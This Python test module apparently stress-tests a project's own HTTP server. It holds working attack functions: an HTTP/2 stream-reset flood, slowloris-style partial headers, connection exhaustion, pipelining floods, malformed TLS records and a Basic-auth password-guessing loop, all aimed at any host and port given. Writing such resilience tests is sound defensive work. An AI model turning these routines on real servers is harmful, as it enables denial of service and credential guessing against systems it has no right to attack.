"""Attacks on the HTTP server, as a program: ``python -m tests.attacks NAME HOST PORT SECONDS``.

Each attack runs for the given seconds, then closes all its connections. It knows no password. It uses plain
sockets, which need less CPU than the server.
"""

import base64
import contextlib
import itertools
import socket
import sys
import time
from collections.abc import Callable, Iterator

Address = tuple[str, int]

GET = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
HTTP_2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"


@contextlib.contextmanager
def connections() -> Iterator[Callable[[Address], socket.socket]]:
    """Open connections, all of which are closed together at the end of the block."""
    with contextlib.ExitStack() as stack:

        def connect(address: Address) -> socket.socket:
            opened = stack.enter_context(socket.create_connection(address, timeout=5))
            opened.setblocking(False)
            return opened

        yield connect


def say(connection: socket.socket, data: bytes) -> bool:
    """Send without blocking; return whether any bytes were sent."""
    with contextlib.suppress(OSError):
        return connection.send(data) > 0
    return False


def http2_by_prior_knowledge(address: Address, end: float) -> None:
    """Open and reset HTTP/2 streams as fast as possible, without an upgrade."""
    streams = b"".join(
        b"\x00\x00\x06\x01\x05" + number.to_bytes(4, "big") + b"\x82\x84\x86\x41\x01a"
        + b"\x00\x00\x04\x03\x00" + number.to_bytes(4, "big") + b"\x00\x00\x00\x08"
        for number in range(1, 20_000, 2)
    )  # fmt: skip
    while time.monotonic() < end:
        with connections() as connect:
            attacker = connect(address)
            attacker.settimeout(1)
            with contextlib.suppress(OSError):
                attacker.sendall(HTTP_2_PREFACE + streams)


def ask_ahead_and_leave(address: Address, end: float, *, requests: int = 400) -> None:
    """Pipeline many requests on each of 50 connections, read no response, disconnect, and repeat."""
    while time.monotonic() < end:
        with connections() as connect:
            for _ in range(50):
                say(connect(address), GET * requests)
            time.sleep(min(2, max(0, end - time.monotonic())))


def ask_a_little_ahead_and_leave(address: Address, end: float) -> None:
    """The same with only as many requests as the server answers."""
    ask_ahead_and_leave(address, end, requests=50)


def ask_and_never_read(address: Address, end: float) -> None:
    """Request the page on 50 connections with a small window, do not read it, and reconnect when closed."""
    with connections() as connect:
        opened: list[socket.socket] = []
        while time.monotonic() < end:
            while len(opened) < 50:
                opened.append(connect(address))
                opened[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                say(opened[-1], GET)
            time.sleep(0.1)


def connect_and_close(address: Address, end: float) -> None:
    """Open as many connections as possible, and close each at once."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            socket.create_connection(address, timeout=5).close()


def connect_and_wait(address: Address, end: float) -> None:
    """Open 1,000 silent connections, and reopen those that are closed."""
    with connections() as connect:
        opened: list[socket.socket] = []
        while time.monotonic() < end:
            if len(opened) < 1000:
                with contextlib.suppress(OSError):
                    opened.append(connect(address))
                continue
            for index, each in enumerate(opened):
                with contextlib.suppress(OSError):
                    if each.recv(1) == b"":
                        opened[index] = connect(address)
            time.sleep(0.05)


def half_a_request(address: Address, end: float) -> None:
    """Send a byte of a header now and then on 400 connections."""
    with connections() as connect:
        opened: list[socket.socket] = []
        while time.monotonic() < end:
            if len(opened) < 400:
                with contextlib.suppress(OSError):
                    opened.append(connect(address))
                    say(opened[-1], b"GET / HTTP/1.1\r\nX: ")
                continue
            opened = [each for each in opened if say(each, b"x")]
            time.sleep(0.2)


def guess(address: Address, end: float) -> None:
    """Try different passwords for made-up users and for alice, on 40 connections."""
    with connections() as connect:
        opened = [connect(address) for _ in range(40)]
        for number in itertools.count():
            if time.monotonic() > end:
                return
            name = b"alice" if number % 2 else b"user%d" % number
            login = base64.b64encode(name + b":guess%d" % number)
            request = b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic " + login + b"\r\n\r\n"
            index = number % len(opened)
            with contextlib.suppress(OSError):
                while opened[index].recv(65536):
                    pass
                opened[index] = connect(address)
            if not say(opened[index], request):
                opened[index] = connect(address)
            time.sleep(0.002)


def bad_handshakes(address: Address, end: float) -> None:
    """Send invalid TLS records, plain HTTP, or nothing, to a port that may use TLS."""
    for junk in itertools.cycle([b"\x16\x03\x01\x00\x05hello", GET, b"\x16\x03\x01\xff\xff" + b"\x00" * 70, b""]):
        if time.monotonic() > end:
            return
        with contextlib.suppress(OSError), connections() as connect:
            say(connect(address), junk)


def push_made_up_ids(address: Address, end: float) -> None:
    """Push 1,000 ids that do not exist, repeatedly."""
    for number in itertools.cycle(range(1000)):
        if time.monotonic() > end:
            return
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=5) as client:
            path = f"/api/v1/conversations/conv_made_up_{number}"
            client.sendall(f"PUT {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
            while client.recv(65536):
                pass


ATTACKS: dict[str, Callable[[Address, float], None]] = {
    attack.__name__: attack
    for attack in (
        http2_by_prior_knowledge,
        ask_ahead_and_leave,
        ask_a_little_ahead_and_leave,
        ask_and_never_read,
        connect_and_close,
        connect_and_wait,
        half_a_request,
        guess,
        bad_handshakes,
        push_made_up_ids,
    )
}

if __name__ == "__main__":
    name, host, port, seconds = sys.argv[1:]
    ATTACKS[name]((host, int(port)), time.monotonic() + float(seconds))
